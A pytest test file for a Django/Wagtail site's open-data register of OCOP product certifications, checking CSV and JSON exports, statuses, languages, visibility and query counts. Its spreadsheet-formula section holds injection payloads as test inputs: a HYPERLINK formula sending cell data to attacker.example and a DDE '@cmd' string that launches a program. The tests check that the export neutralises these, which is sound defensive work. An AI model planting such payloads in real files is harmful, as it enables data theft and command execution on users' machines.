"""The register as open data: /open-data/certifications.csv and .json, in both languages."""

import csv
import datetime
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from catalogue.models import Certification
from opendata.register import COLUMN_NAMES
from tests import factories

CSV_URL = "/open-data/certifications.csv"
JSON_URL = "/open-data/certifications.json"
HOST = "http://testserver"


def csv_rows(response):
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def expected_vietnamese_rows():
    """What the register holds for published products, read row by row through the models (not the export's code)."""
    rows = []
    for certification in Certification.objects.order_by("decision__issued_on", "decision__number", "pk"):
        product = certification.product
        if not product.live:
            continue
        producer = product.get_parent().specific
        decision = certification.decision
        rows.append(
            {
                "certification_id": str(certification.pk),
                "product": product.title,
                "producer": producer.title,
                "province": producer.province.name,
                "product_group": product.group.name,
                "stars": str(certification.stars),
                "score": str(certification.score),
                "decision_number": decision.number,
                "decision_date": decision.issued_on.isoformat(),
                "decision_kind": decision.kind,
                "issuing_body": decision.issuer,
                "valid_until": certification.valid_until.isoformat(),
                "status": str(certification.status),
                "revoked_on": certification.revoked_on.isoformat() if certification.revoked_on else "",
                "revocation_reason": certification.revocation_reason,
                "product_url": HOST + product.url,
                "score_a": "" if certification.score_a is None else str(certification.score_a),
                "score_b": "" if certification.score_b is None else str(certification.score_b),
                "score_c": "" if certification.score_c is None else str(certification.score_c),
            }
        )
    return rows


def by_product(rows):
    return {(row["product"], row["decision_date"]): row for row in rows}


# CSV ---------------------------------------------------------------------------


def test_csv_lists_every_public_certificate_exactly_as_the_register_holds_it(client, register):
    response = client.get(CSV_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert len(rows) == Certification.objects.filter(product__live=True).count() == 6
    assert rows == expected_vietnamese_rows()


def test_csv_says_each_certificates_status_today(client, register):
    rows = by_product(csv_rows(client.get(CSV_URL)))

    assert {key: row["status"] for key, row in rows.items()} == {
        ("Lồng đèn mây tre", "2025-01-15"): "valid",
        ("Chè shan tuyết", "2022-10-01"): "expiring",
        ("Mật ong hoa tràm", "2022-07-01"): "expired",
        ("Lạp xưởng", "2024-03-01"): "revoked",
        ("Rượu đế Gò Đen", "2021-05-10"): "expired",
        ("Rượu đế Gò Đen", "2024-06-01"): "valid",
    }
    revoked = rows[("Lạp xưởng", "2024-03-01")]
    assert (revoked["revoked_on"], revoked["revocation_reason"]) == ("2025-03-01", "Không đánh giá lại đúng hạn")
    # A revocation recorded for a later date is published, but the certificate stays valid until then.
    scheduled = rows[("Rượu đế Gò Đen", "2024-06-01")]
    assert (scheduled["status"], scheduled["revoked_on"]) == ("valid", "2025-12-01")
    assert rows[("Chè shan tuyết", "2022-10-01")]["valid_until"] == "2025-10-01"


def test_statuses_follow_the_sites_today(client, register, frozen_today):
    frozen_today.today = datetime.date(2025, 10, 2)

    rows = by_product(csv_rows(client.get(CSV_URL)))

    assert rows[("Chè shan tuyết", "2022-10-01")]["status"] == "expired"
    assert rows[("Lồng đèn mây tre", "2025-01-15")]["status"] == "valid"


def test_csv_starts_with_a_byte_order_mark_and_a_stable_english_header(client, register):
    response = client.get(CSV_URL)

    first_line = response.content.split(b"\r\n")[0]
    assert first_line == b"\xef\xbb\xbf" + ",".join(COLUMN_NAMES).encode()
    assert COLUMN_NAMES[:5] == ["certification_id", "product", "producer", "province", "product_group"]
    assert "Rượu đế Gò Đen" in response.content.decode("utf-8-sig")


def test_csv_downloads_as_a_dated_file_and_may_be_cached_for_five_minutes(client, register):
    response = client.get(CSV_URL + "?language=en")

    assert response["Content-Disposition"] == 'attachment; filename="ocop-certifications-en-2025-09-15.csv"'
    assert "public" in response["Cache-Control"]
    assert "max-age=300" in response["Cache-Control"]
    assert response["Content-Language"] == "en"


def certification_ids(client, url):
    response = client.get(url)
    assert response.status_code == 200
    if url.startswith(JSON_URL):
        document = json.loads(response.content)
        assert document["count"] == len(document["certifications"])
        return {row["certification_id"] for row in document["certifications"]}
    return {int(row["certification_id"]) for row in csv_rows(response)}


REGISTER_URLS = [CSV_URL, CSV_URL + "?language=en", JSON_URL, JSON_URL + "?language=en"]


@pytest.mark.parametrize("url", REGISTER_URLS)
def test_an_unpublished_products_certificates_are_left_out_until_it_is_published(client, english_lantern, url):
    draft = Certification.objects.get(product__title="Miến dong")
    lantern = Certification.objects.get(product__title="Lồng đèn mây tre")

    assert draft.pk not in certification_ids(client, url)
    assert lantern.pk in certification_ids(client, url)

    draft.product.specific.save_revision().publish()
    assert draft.pk in certification_ids(client, url)


@pytest.mark.parametrize("url", REGISTER_URLS)
def test_a_draft_product_an_import_created_is_not_in_the_register(client, register, url):
    draft = factories.ProductPageFactory(parent=register.producers.go_den, title="Rượu chanh", live=False)

    assert draft.certifications.exists()
    assert draft.certifications.get().pk not in certification_ids(client, url)
    assert "Rượu chanh" not in client.get(url).content.decode("utf-8-sig")


@pytest.mark.parametrize("url", REGISTER_URLS)
def test_a_product_under_a_view_restriction_is_not_in_the_register(client, english_lantern, url):
    from wagtail.models import PageViewRestriction

    lantern = Certification.objects.get(product__title="Lồng đèn mây tre")
    PageViewRestriction.objects.create(
        page=lantern.product, restriction_type=PageViewRestriction.PASSWORD, password="secret"
    )

    assert lantern.pk not in certification_ids(client, url)


# Spreadsheet formulas ----------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Xem")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("language", ["vi", "en"])
def test_csv_cells_a_spreadsheet_would_read_as_formulas_are_written_as_text(
    client, frozen_today, producer_index, language
):
    producer = factories.ProducerPageFactory(parent=producer_index, title="@cmd|' /C calc'!A0")
    products = {
        title: factories.ProductPageFactory(parent=producer, title=title, certification__decision__issuer=title)
        for title in FORMULAS
    }

    rows = {row["certification_id"]: row for row in csv_rows(client.get(f"{CSV_URL}?language={language}"))}

    for title, product in products.items():
        row = rows[str(product.certifications.get().pk)]
        # Readable: the value itself, behind the apostrophe that makes a spreadsheet show it as text.
        assert row["product"] == "'" + title
        assert row["issuing_body"] == "'" + title
        assert row["producer"] == "'@cmd|' /C calc'!A0"
    # Ordinary values and numbers are untouched.
    assert {row["stars"] for row in rows.values()} == {"4"}
    assert all(row["decision_date"][0].isdigit() for row in rows.values())


def test_json_keeps_the_values_as_they_are(client, frozen_today, producer_index):
    producer = factories.ProducerPageFactory(parent=producer_index, title="=1+1")
    factories.ProductPageFactory(parent=producer, title="@SUM(A1)")

    row = json.loads(client.get(JSON_URL).content)["certifications"][0]

    assert (row["product"], row["producer"]) == ("@SUM(A1)", "=1+1")


# Languages ---------------------------------------------------------------------


def test_english_register_uses_english_names_and_pages_where_translated(client, english_lantern):
    rows = by_product(csv_rows(client.get(CSV_URL + "?language=en")))

    lantern = rows[("Rattan lantern", "2025-01-15")]
    assert lantern["producer"] == "Bao La rattan and bamboo cooperative"
    assert lantern["province"] == "Hue"
    assert lantern["product_group"] == "Handicrafts"
    assert lantern["product_url"] == HOST + english_lantern.url
    assert english_lantern.url.startswith("/en/")
    # The rest falls back to Vietnamese names and pages, with the same certificate data.
    tea = rows[("Chè shan tuyết", "2022-10-01")]
    assert (tea["producer"], tea["province"], tea["status"]) == ("Hộ kinh doanh Đèo Thị Sớp", "Lai Châu", "expiring")
    assert tea["product_url"].startswith(HOST + "/vi/")
    assert len(rows) == 6


def test_vietnamese_is_the_default_language_even_with_an_english_translation(client, english_lantern):
    default = csv_rows(client.get(CSV_URL))

    assert default == csv_rows(client.get(CSV_URL + "?language=vi"))
    assert default == expected_vietnamese_rows()
    assert "Rattan lantern" not in {row["product"] for row in default}


def test_both_languages_carry_the_same_certificates(client, english_lantern):
    language_neutral = [
        name for name in COLUMN_NAMES if name not in {"product", "producer", "province", "product_group", "product_url"}
    ]

    def neutral(rows):
        return [{name: row[name] for name in language_neutral} for row in rows]

    assert neutral(csv_rows(client.get(CSV_URL + "?language=en"))) == neutral(csv_rows(client.get(CSV_URL)))


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
@pytest.mark.parametrize("language", ["fr", "", "EN", "vi%00"])
def test_unknown_language_is_refused_with_a_plain_message(client, register, url, language):
    response = client.get(f"{url}?language={language}")

    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "vi, en" in response.content.decode()


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL])
def test_register_is_read_only(client, register, url):
    assert client.post(url).status_code == 405


# JSON --------------------------------------------------------------------------


def test_json_holds_the_same_rows_with_typed_values_and_iso_dates(client, register):
    response = client.get(JSON_URL)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert "max-age=300" in response["Cache-Control"]
    document = json.loads(response.content)
    assert document["count"] == 6
    assert document["license"]["name"] == "CC BY 4.0"
    assert datetime.datetime.fromisoformat(document["generated_at"]).tzinfo is not None
    as_text = [
        {name: "" if value is None else str(value) for name, value in row.items()} for row in document["certifications"]
    ]
    assert as_text == expected_vietnamese_rows()
    revoked = next(row for row in document["certifications"] if row["product"] == "Lạp xưởng")
    assert (revoked["stars"], revoked["revoked_on"], revoked["status"]) == (3, "2025-03-01", "revoked")
    valid = next(row for row in document["certifications"] if row["product"] == "Lồng đèn mây tre")
    assert valid["revoked_on"] is None


def test_json_in_english_names_the_translated_product(client, english_lantern):
    document = json.loads(client.get(JSON_URL + "?language=en").content)

    assert document["language"] == "en"
    titles = {row["product"] for row in document["certifications"]}
    assert "Rattan lantern" in titles
    assert "Lồng đèn mây tre" not in titles


def test_an_empty_register_is_an_empty_file_not_an_error(client, home_page):
    assert csv_rows(client.get(CSV_URL)) == []
    assert json.loads(client.get(JSON_URL).content)["count"] == 0


# Queries -----------------------------------------------------------------------


def queries_for(client, url):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url)
    assert response.status_code == 200
    return len(queries)


@pytest.mark.parametrize("url", [CSV_URL, JSON_URL, CSV_URL + "?language=en"])
def test_query_count_does_not_grow_with_the_register(client, frozen_today, producer_index, url):
    producers = [factories.ProducerPageFactory(parent=producer_index) for _ in range(3)]
    for producer in producers:
        factories.ProductPageFactory(parent=producer)
    client.get(url)  # warms the site root paths cache
    with_three = queries_for(client, url)

    for index in range(27):
        factories.ProductPageFactory(parent=producers[index % 3])
    assert Certification.objects.count() == 30

    assert queries_for(client, url) == with_three
    assert with_three <= 8
